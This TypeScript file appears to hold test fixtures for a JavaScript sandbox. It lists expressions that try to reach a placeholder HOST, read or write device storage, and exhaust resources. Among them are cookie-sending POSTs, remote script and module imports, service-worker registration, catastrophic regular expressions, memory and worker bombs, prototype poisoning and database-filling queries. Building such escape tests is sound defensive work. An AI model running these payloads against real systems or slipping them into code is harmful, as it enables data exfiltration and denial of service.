/** What a program could try in order to reach `HOST`, as an expression that is awaited. Sources: the list of each interface of workers. */
export const reaching: Record<string, string> = {
  'fetch with cookies': "fetch(HOST, { credentials: 'include' })",
  'fetch without CORS': "fetch(HOST, { mode: 'no-cors', credentials: 'include' })",
  'a fetch that outlives the page': "fetch(HOST, { mode: 'no-cors', keepalive: true })",
  'a POST without CORS': "fetch(HOST, { method: 'POST', mode: 'no-cors', body: document?.cookie })",
  'the fetch of the prototype': 'Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, HOST)',
  'the fetch of WorkerGlobalScope': 'WorkerGlobalScope.prototype.fetch.call(self, HOST)',
  'a restored fetch': '(delete self.fetch, self.fetch(HOST))',
  XMLHttpRequest:
    "await new Promise((r) => { const x = new XMLHttpRequest(); x.open('GET', HOST); x.onloadend = r; x.send() })",
  'XMLHttpRequest at once':
    "(() => { const x = new XMLHttpRequest(); x.open('GET', HOST, false); x.send() })()",
  WebSocket:
    "new Promise((r) => { const s = new WebSocket(HOST.replace('http', 'ws')); s.onopen = s.onerror = r })",
  WebSocketStream: "new WebSocketStream(HOST.replace('http', 'ws')).opened",
  EventSource: 'new Promise((r) => { const s = new EventSource(HOST); s.onopen = s.onerror = r })',
  WebTransport: "new WebTransport(HOST.replace('http:', 'https:')).ready",
  RTCPeerConnection:
    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(HOST).host }] }).createOffer()",
  importScripts: 'importScripts(HOST)',
  'importScripts of the prototype': 'WorkerGlobalScope.prototype.importScripts.call(self, HOST)',
  'import()': "(0, eval)('import(' + JSON.stringify(HOST) + ')')",
  'import() by a function': "new Function('u', 'return import(u)')(HOST)",
  'import() by a blob':
    "import(URL.createObjectURL(new Blob(['import ' + JSON.stringify(HOST)], { type: 'text/javascript' })))",
  'import() of data': "import('data:text/javascript,import ' + JSON.stringify(HOST))",
  'a timer with text': "void setTimeout('fetch(' + JSON.stringify(HOST) + ')', 0)",
  'a worker of the host': 'new Worker(HOST)',
  'a shared worker': 'new SharedWorker(HOST)',
  'a worker of its own': "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(HOST) + ')'])))",
  'a worker of a worker':
    "new Worker(URL.createObjectURL(new Blob(['new Worker(' + JSON.stringify(HOST) + ')'])))",
  sendBeacon: 'navigator.sendBeacon(HOST, "x")',
  'a font': "new FontFace('x', 'url(' + HOST + ')').load()",
  'a streamed module': 'WebAssembly.compileStreaming(fetch(HOST))',
  'a service worker': 'navigator.serviceWorker.register(HOST)',
  'a background fetch': "registration.backgroundFetch.fetch('x', HOST)",
  'going elsewhere': '(self.location = HOST, self.location.href = HOST, location.assign(HOST))',
  'opening a window': 'open(HOST)',
  'a form': 'document.body.innerHTML = "<form action=" + HOST + ">", document.forms[0].submit()',
  'a picture': 'new Image().src = HOST',
  'the page around': "parent.postMessage('x', '*'), top.location = HOST",
  'the frame around':
    "Object.getPrototypeOf(self).postMessage.call(self, { name: 'kept-snapshot', bytes: new ArrayBuffer(8) })",
  'an extended URL': 'Request.prototype.constructor(HOST), new Request(HOST).blob()',
  'a payment': 'new PaymentRequest([{ supportedMethods: HOST }], {}).show()',
}

/** What it could try in order to find or leave something on the device; each should fail, or come to nothing. */
export const storing: Record<string, string> = {
  indexedDB:
    "new Promise((r, no) => { const q = indexedDB.open('x'); q.onsuccess = () => r('open'); q.onerror = no })",
  'indexedDB of the prototype': "WorkerGlobalScope.prototype.indexedDB.open('x')",
  caches: 'caches.keys()',
  'private files': 'navigator.storage.getDirectory()',
  cookieStore: 'cookieStore.getAll()',
  localStorage: "localStorage.setItem('x', 'y')",
  'document.cookie': 'document.cookie.length',
  BroadcastChannel: "(new BroadcastChannel('x').postMessage('y'), 'sent')",
  locks: "navigator.locks.request('x', () => 'held')",
}

/** Programs that use up what there is, or break what they stand on. Each is a whole fetch handler’s body. */
export const exhausting: Record<string, string> = {
  'a loop': 'for (;;);',
  'a loop of promises': 'for (;;) await null',
  'a promise that waits': 'await new Promise(() => {})',
  recursion: 'const f = () => f() + 1; f()',
  'a regular expression': "/^(a+)+$/.test('a'.repeat(40) + 'b')",
  'an array without end': 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length))',
  'a text without end': "let text = 'x'; for (;;) text += text + Math.random()",
  '4 GB of bytes':
    'const all = []; for (let i = 0; i < 16; i++) all.push(new Uint8Array(2 ** 28).fill(1)); for (;;);',
  '4 GB of WebAssembly':
    'const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 }); m.grow(65535); new Uint8Array(m.buffer).fill(1); for (;;);',
  'a million lines': "for (let i = 0; i < 1e6; i++) console.log('line ' + i)",
  'lines without end': "for (;;) console.log('x'.repeat(1e5))",
  'a body of 100 MB': "return new Response('x'.repeat(1e8))",
  'a body without end':
    'return new Response(new ReadableStream({ pull: (c) => c.enqueue(new Uint8Array(1e6)) }))',
  'a hundred thousand headers':
    "const h = new Headers(); for (let i = 0; i < 1e5; i++) h.append('x' + i, 'y'); return new Response('', { headers: h })",
  'a thousand workers':
    "for (let i = 0; i < 1000; i++) new Worker(URL.createObjectURL(new Blob(['for (;;);'])))",
  'a million timers': 'for (let i = 0; i < 1e6; i++) setInterval(() => {}, 0); await new Promise(() => {})',
  'a line of its own': `
    let port; const post = MessagePort.prototype.postMessage
    const get = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get
    Object.defineProperty(MessageEvent.prototype, 'data', { get() { port = this.target; return get.call(this) } })
    MessagePort.prototype.postMessage = function (...a) { port = this; return post.apply(this, a) }
    await new Promise((r) => setTimeout(r, 50)); for (;;) post.call(port ?? new MessageChannel().port1, { logs: [{ stream: 'lab', text: 'x' }] })`,
  'a flood of channels':
    "const all = []; for (;;) { const c = new MessageChannel(); c.port1.postMessage('x'.repeat(1e6)); all.push(c) }",
  'broken prototypes':
    "Array.prototype.push = Map.prototype.get = Promise.prototype.then = JSON.stringify = () => { throw new Error('no') }; return Response.json({})",
  'texts that throw': "throw new Proxy({}, { get() { throw new Error('no') } })",
  'nothing thrown': 'throw null',
  'closing itself': 'close(); self.close(); await new Promise(() => {})',
  'a frozen world': 'Object.freeze(self); Object.freeze(Object.prototype); Object.freeze(Array.prototype)',
  'JSON in the wrong place':
    "Object.prototype.toJSON = () => 'gone'; Object.prototype.status = 200; return { status: 200 }",
  'a query that never ends':
    "const { default: pg } = await import('pg'); await new pg.Pool().query('SELECT count(*) FROM generate_series(1, 100000000000)')",
  'a million queries':
    "const { default: pg } = await import('pg'); const db = new pg.Pool(); for (;;) await db.query('SELECT 1')",
  'a database that fills up':
    "const { default: pg } = await import('pg'); const db = new pg.Pool(); for (;;) await db.query('CREATE TABLE IF NOT EXISTS t AS SELECT repeat(md5(random()::text), 100) FROM generate_series(1, 10000)').then(() => db.query('INSERT INTO t SELECT * FROM t'))",
}
